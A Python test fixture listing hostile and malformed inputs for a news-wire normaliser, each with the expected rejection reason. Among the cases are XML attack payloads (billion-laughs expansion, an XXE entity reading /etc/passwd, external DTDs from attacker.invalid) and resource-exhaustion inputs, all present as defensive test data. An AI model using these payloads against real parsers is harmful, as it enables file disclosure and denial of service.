# ruff: noqa: E501  (a data table: one case per line reads better than wrapped bytes)
"""A catalogue of hostile, broken and odd inputs, each with the outcome the normaliser must give.

Importable on its own (no pytest, no wirestream imports) so the end-to-end Kafka test can push the
very same bytes through the real broker::

    from bad_inputs import CATALOGUE   # list[BadInput]

``expected_reason`` is the Rejection reason code, or ``None`` when the input must be *accepted*
(possibly repaired). Outcomes assume default ``NormaliseSettings`` (max_bytes 5,000,000,
max_headline_chars 1,000, min_year 1990, max_future_days 366, source_timezone UTC) and no
content-type hint.
"""

from __future__ import annotations

import codecs
import json
from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class BadInput:
    name: str
    data: bytes
    expected_reason: str | None  # None = accepted (possibly repaired)


def _j(obj: object) -> bytes:
    return json.dumps(obj, ensure_ascii=False).encode("utf-8")


_BODY = (
    "GENEVA (Example Wire) - Negotiators resumed talks on Friday on a draft treaty on plastic "
    "pollution, with delegates saying the gap on production caps remained wide.\n\n"
    '"We are not there yet," one European delegate said.'
)
_NINJS = {
    "uri": "urn:newsml:example-wire.test:20250704:GVA0001",
    "version": "1",
    "versioncreated": "2025-07-04T09:00:00Z",
    "pubstatus": "usable",
    "headline": "Plastic treaty talks resume in Geneva",
    "body_text": _BODY,
    "language": "en",
}


def _ninjs(**changes: object) -> bytes:
    doc = dict(_NINJS)
    for key, value in changes.items():
        if value is _DROP:
            doc.pop(key, None)
        else:
            doc[key] = value
    return _j(doc)


_DROP = object()
_TEXT = "Talks resume in Geneva\n\n" + _BODY + "\n"
_NEWSML = """<?xml version="1.0" encoding="UTF-8"?>
<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="urn:newsml:example-wire.test:1" version="{version}" standard="NewsML-G2">
  <itemMeta><itemClass qcode="ninat:text"/><versionCreated>2025-07-04T09:00:00Z</versionCreated><pubStatus qcode="stat:usable"/></itemMeta>
  <contentMeta><headline>Plastic treaty talks resume</headline><language tag="en"/></contentMeta>
  {content}
</newsItem>"""
_NEWSML_CONTENT = (
    '<contentSet><inlineData contenttype="text/plain">Negotiators resumed talks on Friday on a '
    "plastics treaty.</inlineData></contentSet>"
)
_BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="x"><contentMeta><headline>&lol9;</headline></contentMeta></newsItem>"""
_XXE = """<?xml version="1.0"?>
<!DOCTYPE newsItem [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="x"><contentMeta><headline>&xxe;</headline></contentMeta></newsItem>"""
_EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE newsItem SYSTEM "http://attacker.invalid/newsml.dtd">
<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="x"><contentMeta><headline>Hi</headline></contentMeta></newsItem>"""
_PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE newsItem [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<newsItem guid="x"/>"""


_MOJIBAKE_NAME = ("Fran\u00c3\u00a7ois Hollande\u00e2\u20ac\u2122s party " * 60)[
    :2_000
]  # 2,000 characters, all mojibake-looking
_NFD_NAME = ("Cafe\u0301 de\u0301clare\u0301 " * 200)[:3_000]  # needs NFC, nothing for ftfy


def _newsml_subjects(names: list[str]) -> bytes:
    subjects = "".join(f'<subject qcode="a:{i}"><name>{name}</name></subject>' for i, name in enumerate(names))
    return _NEWSML.format(version=1, content=_NEWSML_CONTENT).replace("<language", subjects + "<language").encode()


def _nested_json(depth: int) -> bytes:
    return b'{"headline":"Deep","body":"Text.","extra":' + b"[" * depth + b"]" * depth + b"}"


CATALOGUE: list[BadInput] = [
    # --- size and encoding ------------------------------------------------------------------
    BadInput("body_20mb", b"a" * 20_000_000, "too_large"),
    BadInput("one_byte_over_limit", b"x" * 5_000_001, "too_large"),
    BadInput("single_line_just_under_5mb", b"word " * 999_000, None),
    BadInput("invalid_utf8_bytes", b"Headline\n\nBody with \xff\xfe\xfd bytes.", "invalid_utf8"),
    BadInput("overlong_utf8_sequence", b"Slash \xc0\xaf here.", "invalid_utf8"),
    BadInput("utf8_encoded_surrogate", b"Surrogate \xed\xa0\x80 here.", "invalid_utf8"),
    BadInput("latin1_not_utf8", "Café à Paris: la grève continue.".encode("latin-1"), "invalid_utf8"),
    BadInput("truncated_utf8_at_end", "Talks in Zürich".encode()[:-1] + b"\xc3", "invalid_utf8"),
    BadInput("utf16_le_with_bom", codecs.BOM_UTF16_LE + _TEXT.encode("utf-16-le"), None),
    BadInput("utf16_be_with_bom_ninjs", codecs.BOM_UTF16_BE + _ninjs().decode().encode("utf-16-be"), None),
    BadInput("utf8_with_bom_json", codecs.BOM_UTF8 + _ninjs(), None),
    BadInput("utf32_le_with_bom", codecs.BOM_UTF32_LE + _TEXT.encode("utf-32-le"), None),
    BadInput("utf16_without_bom", _TEXT.encode("utf-16-le"), "binary_content"),
    BadInput("utf16_bom_odd_length", codecs.BOM_UTF16_LE + _TEXT.encode("utf-16-le")[:-1], "invalid_encoding"),
    BadInput("nul_bytes_sprinkled", _TEXT.replace("Friday", "Fri\x00day").encode(), None),
    BadInput("nul_bytes_only", b"\x00" * 4096, "binary_content"),
    BadInput(
        "xml_declared_latin1",
        b'<?xml version="1.0" encoding="ISO-8859-1"?>\n'
        + _NEWSML.format(version=1, content=_NEWSML_CONTENT)
        .split("\n", 1)[1]
        .replace("Plastic", "Plastique é")
        .encode("latin-1"),
        None,
    ),
    # --- empty / no text --------------------------------------------------------------------
    BadInput("empty_payload", b"", "empty_body"),
    BadInput("whitespace_only", b"  \n\t\r\n   \n", "empty_body"),
    BadInput("unicode_whitespace_only", "\u3000\u00a0\u2003\n\u2029".encode(), "empty_body"),
    BadInput("zero_width_only", "\u200b\u200b\ufeff\u2060".encode(), "empty_body"),
    BadInput("html_no_text", b"<html><body><script>alert(1)</script><div> </div></body></html>", "empty_body"),
    BadInput(
        "html_only_chrome", b"<html><body><nav>Home | World</nav><footer>(c) Site</footer></body></html>", "empty_body"
    ),
    BadInput("json_empty_body", _j({"headline": "Something happened", "body": ""}), "empty_body"),
    BadInput("ninjs_body_html_script_only", _ninjs(body_text=_DROP, body_html="<script>x()</script>"), "empty_body"),
    BadInput("text_only_boilerplate", b"(c) 2025 Example Wire. All rights reserved.\n", "empty_body"),
    BadInput("dateline_only", b"LONDON (Reuters) - \n", "empty_body"),
    BadInput("newsml_without_content", _NEWSML.format(version=1, content="").encode(), "empty_body"),
    BadInput("regex_hostile_parens", b"((((((" * 10_000, "empty_body"),
    BadInput("regex_hostile_dots", b"." * 1_000_000, "empty_body"),
    BadInput("ninjs_canceled_without_body", _ninjs(body_text=_DROP, pubstatus="canceled"), None),
    # --- JSON structure ---------------------------------------------------------------------
    BadInput("truncated_json", _ninjs()[:-40], "invalid_json"),
    BadInput("json_trailing_garbage", _ninjs() + b" trailing", "invalid_json"),
    BadInput("json_single_quotes", b"{'headline': 'x', 'body': 'y'}", "invalid_json"),
    BadInput("json_nan_literal", b'{"headline": "x", "body": "y", "version": NaN}', "invalid_json"),
    BadInput("json_number_overflow", b'{"headline": "x", "body": "y", "version": 1e400}', "invalid_json"),
    BadInput("json_lone_surrogate_escape", b'{"headline": "\\ud800", "body": "Text."}', "invalid_json"),
    BadInput("json_nesting_10000_deep", b"[" * 10_000 + b"]" * 10_000, "json_too_deep"),
    BadInput("json_field_nested_2000_deep", _nested_json(2_000), "json_too_deep"),
    BadInput("json_top_level_array", b'[{"headline": "x", "body": "y"}]', "wrong_type"),
    BadInput("json_unknown_shape", b'{"foo": 1, "bar": [true, false]}', "unknown_format"),
    BadInput("json_duplicate_keys_last_wins", b'{"headline": "A", "headline": "B", "body": "Text here."}', None),
    # --- wrong types, field by field --------------------------------------------------------
    BadInput("wrong_type_headline_int", _ninjs(headline=42), "wrong_type"),
    BadInput("wrong_type_headline_list", _j({"headline": ["a"], "body": "Text."}), "wrong_type"),
    BadInput("wrong_type_body_list", _j({"headline": "x", "body": ["a", "b"]}), "wrong_type"),
    BadInput("wrong_type_body_text_object", _ninjs(body_text={"value": "x"}), "wrong_type"),
    BadInput("wrong_type_body_html_number", _ninjs(body_text=_DROP, body_html=3.5), "wrong_type"),
    BadInput("wrong_type_uri_object", _ninjs(uri={"id": 1}), "wrong_type"),
    BadInput("wrong_type_version_bool", _ninjs(version=True), "wrong_type"),
    BadInput("wrong_type_version_float", _ninjs(version=2.5), "wrong_type"),
    BadInput(
        "wrong_type_big_int_version",
        b'{"headline": "x", "body": "Text.", "version": 100000000000000000000000000000}',
        "wrong_type",
    ),
    BadInput("wrong_type_versioncreated_object", _ninjs(versioncreated={"t": 1}), "wrong_type"),
    BadInput("wrong_type_published_list", _j({"headline": "x", "body": "Text.", "published": [2025]}), "wrong_type"),
    BadInput("wrong_type_pubstatus_int", _ninjs(pubstatus=1), "wrong_type"),
    BadInput("wrong_type_language_int", _ninjs(language=5), "wrong_type"),
    BadInput("wrong_type_subject_string", _ninjs(subject="politics"), "wrong_type"),
    BadInput("wrong_type_subject_item_int", _ninjs(subject=[1, 2]), "wrong_type"),
    BadInput("wrong_type_byline_number", _ninjs(byline=7), "wrong_type"),
    BadInput("wrong_type_headlines_item_string", _ninjs(headline=_DROP, headlines=["x"]), "wrong_type"),
    BadInput("wrong_type_bodies_object", _ninjs(body_text=_DROP, bodies={"value": "x"}), "wrong_type"),
    BadInput("wrong_type_associations_string", _ninjs(associations="pic"), "wrong_type"),
    BadInput("wrong_type_located_number", _ninjs(located=3), "wrong_type"),
    BadInput("wrong_type_guid_list", _ninjs(uri=_DROP, guid=["urn:x"]), "wrong_type"),
    BadInput("wrong_type_firstcreated_bool", _ninjs(firstcreated=True), "wrong_type"),
    BadInput("wrong_type_embargoed_list", _ninjs(embargoed=["2025-07-04T10:00:00Z"]), "wrong_type"),
    BadInput("wrong_type_description_text_number", _ninjs(description_text=5), "wrong_type"),
    BadInput("wrong_type_descriptions_string", _ninjs(descriptions="A summary."), "wrong_type"),
    BadInput("wrong_type_place_string", _ninjs(place="Geneva"), "wrong_type"),
    BadInput("wrong_type_person_object", _ninjs(person={"name": "A. Delegate"}), "wrong_type"),
    BadInput("wrong_type_organisation_item_number", _ninjs(organisation=[5]), "wrong_type"),
    BadInput("wrong_type_subject_name_number", _ninjs(subject=[{"code": "medtop:1", "name": 5}]), "wrong_type"),
    BadInput("wrong_type_copyrightnotice_number", _ninjs(copyrightnotice=2025), "wrong_type"),
    BadInput("wrong_type_item_type_number", _ninjs(type=1), "wrong_type"),
    BadInput("wrong_type_json_title_list", _j({"title": ["Talks"], "body": _BODY}), "wrong_type"),
    BadInput(
        "wrong_type_json_lang_object", _j({"title": "Talks", "body": _BODY, "lang": {"code": "en"}}), "wrong_type"
    ),
    BadInput("wrong_type_json_id_float", _j({"id": 1.5, "title": "Talks", "body": _BODY}), "wrong_type"),
    BadInput("wrong_type_json_dateline_number", _j({"title": "Talks", "body": _BODY, "dateline": 5}), "wrong_type"),
    BadInput(
        "wrong_type_json_updated_object", _j({"title": "Talks", "body": _BODY, "updated": {"t": 1}}), "wrong_type"
    ),
    BadInput("wrong_type_json_tags_number", _j({"title": "Talks", "body": _BODY, "tags": 5}), "wrong_type"),
    BadInput("invalid_pubstatus_value", _ninjs(pubstatus="maybe"), "invalid_value"),
    BadInput("invalid_negative_version", _ninjs(version=-1), "invalid_value"),
    BadInput("invalid_version_text", _ninjs(version="three"), "invalid_value"),
    BadInput(
        "newsml_version_not_number", _NEWSML.format(version="abc", content=_NEWSML_CONTENT).encode(), "invalid_value"
    ),
    # --- dates ------------------------------------------------------------------------------
    BadInput("date_year_0", _ninjs(versioncreated="0000-01-01T00:00:00Z"), "date_out_of_range"),
    BadInput("date_year_9999", _ninjs(versioncreated="9999-12-31T23:59:59Z"), "date_out_of_range"),
    BadInput("date_year_9999_negative_offset", _ninjs(versioncreated="9999-12-31T23:59:59-05:00"), "date_out_of_range"),
    BadInput("date_epoch_zero", _j({"headline": "x", "body": "Text.", "published": 0}), "date_out_of_range"),
    BadInput("date_2099", _ninjs(firstcreated="2099-01-01T00:00:00Z"), "date_out_of_range"),
    BadInput("date_garbage", _ninjs(versioncreated="not a date"), "invalid_date"),
    BadInput("date_conflicting_timezones", _ninjs(versioncreated="2025-07-04T10:00:00+02:00 EST"), "invalid_date"),
    BadInput("date_marker_impossible", b"date 2025-13-45 Talks resumed on Friday in Geneva.\n", "invalid_date"),
    BadInput("date_epoch_millis", _j({"headline": "x", "body": "Text here.", "published": 1751619600000}), None),
    BadInput("date_rfc2822", _j({"title": "x", "text": "Text here.", "date": "Fri, 04 Jul 2025 10:00:00 +0100"}), None),
    # --- XML --------------------------------------------------------------------------------
    BadInput("xml_billion_laughs", _BILLION_LAUGHS.encode(), "xml_forbidden"),
    BadInput("xml_external_entity", _XXE.encode(), "xml_forbidden"),
    BadInput("xml_external_dtd", _EXTERNAL_DTD.encode(), "xml_forbidden"),
    BadInput("xml_parameter_entity", _PARAMETER_ENTITY.encode(), "xml_forbidden"),
    BadInput("xml_truncated", _NEWSML.format(version=1, content=_NEWSML_CONTENT).encode()[:-30], "invalid_xml"),
    BadInput(
        "xml_not_newsml", b'<?xml version="1.0"?><rss><channel><title>x</title></channel></rss>', "unknown_format"
    ),
    # --- cheap to send, expensive to process (limits) ------------------------------------------
    BadInput("text_900k_tiny_paragraphs", b"Ab.\n\n" * 900_000, "too_many_parts"),
    BadInput("text_800k_wrapped_lines", b"Ab cd\n" * 800_000, "too_many_parts"),
    BadInput("text_6000_paragraphs", b"Para text here.\n\n" * 6_000, "too_many_parts"),
    BadInput("html_450k_paragraphs", b"<p>Ab.</p>" * 450_000, "too_many_parts"),
    BadInput("html_450k_line_breaks", b"<p>" + b"Ab<br><br>" * 450_000 + b"</p>", "too_many_parts"),
    BadInput("json_400k_tags", _j({"headline": "x", "body": "Text.", "tags": ["a"] * 400_000}), "too_many_parts"),
    BadInput(
        "newsml_60k_subjects",
        _NEWSML.format(version=1, content=_NEWSML_CONTENT)
        .replace("<language", '<subject qcode="a:b"><name>n</name></subject>' * 60_000 + "<language")
        .encode(),
        "too_many_parts",
    ),
    # more mojibake than the repair budget (limits.FTFY_MAX_CHARS) is refused, not left as sent
    BadInput(
        "mojibake_4mb_single_line", ("France\u00e2\u20ac\u2122s leader said. " * 150_000).encode(), "too_many_parts"
    ),
    BadInput(
        "mojibake_150kb_many_lines", ("France\u00e2\u20ac\u2122s leader said.\n\n" * 5_000).encode(), "too_many_parts"
    ),
    BadInput(
        "mojibake_in_60kb_article",
        ("France\u00e2\u20ac\u2122s leader said.\n\n" + "\n\n".join([_BODY] * 280)).encode(),
        None,
    ),
    BadInput(
        "mojibake_long_article_40kb",
        ("France\u00e2\u20ac\u2122s leader said the talks were useful.\n\n" * 700).encode(),
        None,
    ),
    # one repair budget per article, not per field or list item: each name alone is under it
    BadInput(
        "ninjs_1000_long_mojibake_subject_names", _ninjs(subject=[{"name": _MOJIBAKE_NAME}] * 1_000), "too_many_parts"
    ),
    BadInput(
        "ninjs_1000_long_mojibake_place_names", _ninjs(place=[{"name": _MOJIBAKE_NAME}] * 1_000), "too_many_parts"
    ),
    BadInput("ninjs_1000_long_mojibake_people_strings", _ninjs(people=[_MOJIBAKE_NAME] * 1_000), "too_many_parts"),
    BadInput(
        "ninjs_1000_long_mojibake_organisations",
        _ninjs(organisations=[{"name": _MOJIBAKE_NAME}] * 1_000),
        "too_many_parts",
    ),
    BadInput(
        "json_1000_long_mojibake_tags",
        _j({"headline": "x", "body": "Text.", "tags": [_MOJIBAKE_NAME] * 1_000}),
        "too_many_parts",
    ),
    BadInput("newsml_1000_long_mojibake_subject_names", _newsml_subjects([_MOJIBAKE_NAME] * 1_000), "too_many_parts"),
    BadInput(
        "ninjs_mojibake_spread_over_fields",
        _ninjs(
            body_text="Negotiators resumed talks on Friday.",
            byline=_MOJIBAKE_NAME[:900],
            located=_MOJIBAKE_NAME * 30,
            copyrightnotice=_MOJIBAKE_NAME * 30,
        ),
        "too_many_parts",
    ),
    BadInput("ninjs_1000_short_mojibake_subject_names", _ninjs(subject=[{"name": _MOJIBAKE_NAME[:40]}] * 1_000), None),
    BadInput("ninjs_1000_long_nfd_subject_names", _ninjs(subject=[{"name": _NFD_NAME}] * 1_000), None),
    BadInput(
        "ninjs_1000_subjects_in_each_of_8_lists",
        _ninjs(
            **{
                key: [{"name": "Politics"}] * 1_000
                for key in (
                    "subject",
                    "subjects",
                    "place",
                    "places",
                    "person",
                    "people",
                    "organisation",
                    "organisations",
                )
            }
        ),
        "too_many_parts",
    ),
    # one-line fields over 100,000 characters as sent are refused before cleaning (NFC of 2 MB: ~0.1 s)
    BadInput("ninjs_headline_2mb_needing_nfc", _ninjs(headline=_NFD_NAME * 700), "headline_too_long"),
    BadInput(
        "ninjs_located_2mb_needing_nfc",
        _ninjs(body_text="Negotiators resumed talks on Friday.", located=_NFD_NAME * 700),
        "invalid_value",
    ),
    BadInput("ninjs_copyright_notice_2mb", _ninjs(copyrightnotice="(c) Example Wire " * 120_000), "invalid_value"),
    BadInput("json_body_4mb_needing_nfc", _j({"headline": "Talks", "body": _NFD_NAME * 1_200}), None),
    BadInput("non_ascii_single_line_5mb", ("Le ministre a déclaré « que » vendredi. " * 110_000).encode(), None),
    # --- headline ---------------------------------------------------------------------------
    BadInput("headline_100kb", _ninjs(headline="Long " * 20_000), "headline_too_long"),
    BadInput("headline_exactly_limit", _ninjs(headline="H" * 1_000), None),
    # --- repairable oddities ----------------------------------------------------------------
    BadInput(
        "rtl_override_characters",
        ("Talks\u202e resume\u202c in Geneva\n\n" + _BODY.replace("draft", "\u2066draft\u2069")).encode(),
        None,
    ),
    BadInput(
        "mojibake_text",
        "France\u00e2\u20ac\u2122s leader said the talks were \u00e2\u20ac\u0153useful\u00e2\u20ac\u009d.\n".encode(),
        None,
    ),
    BadInput("control_characters", ("Talks\x01 resume\x07\n\n" + _BODY.replace(" ", " \x1b", 3)).encode(), None),
    BadInput("regex_hostile_spaces", b"Talks" + b" " * 1_000_000 + b"resume.", None),
    BadInput("regex_hostile_dateline", b"KYIV, " + b"x, " * 50_000 + b"(Reuters) - Text.", None),
    BadInput("regex_hostile_sentence", b"Mr. " * 200_000 + b"Smith spoke.", None),
    BadInput("html_entity_flood", b"<p>" + b"&amp;" * 100_000 + b" and text</p>", None),
    BadInput("html_deep_nesting_10000", b"<div>" * 10_000 + b"Deep text here." + b"</div>" * 10_000, "markup_too_deep"),
    BadInput("html_nesting_400_ok", b"<div>" * 400 + b"Deep text here." + b"</div>" * 400, None),
    BadInput("html_5000_unclosed_paragraphs", b"<p>Para text." * 5_000, None),
    BadInput(
        "xml_inline_nesting_5000",
        _NEWSML.format(
            version=1,
            content="<contentSet><inlineXML>"
            + "<div>" * 5_000
            + "Text."
            + "</div>" * 5_000
            + "</inlineXML></contentSet>",
        ).encode(),
        "markup_too_deep",
    ),
    BadInput(
        "xml_headline_nesting_5000",
        _NEWSML.format(version=1, content="")
        .replace(
            "<headline>Plastic treaty talks resume</headline>",
            "<headline>" + "<b>" * 5_000 + "Deep" + "</b>" * 5_000 + "</headline>",
        )
        .encode(),
        "markup_too_deep",
    ),
    BadInput(
        "xml_headline_nesting_50000",
        _NEWSML.format(version=1, content="")
        .replace(
            "<headline>Plastic treaty talks resume</headline>",
            "<headline>" + "<b>" * 50_000 + "Deep" + "</b>" * 50_000 + "</headline>",
        )
        .encode(),
        "too_many_parts",
    ),
    BadInput("html_unclosed_tags", b"<p>First paragraph<p>Second <b>bold <i>paragraph", None),
    BadInput(
        "emoji_and_zwj",
        "Fans celebrate \U0001f468\u200d\U0001f469\u200d\U0001f467 win\n\nThe crowd cheered.".encode(),
        None,
    ),
]
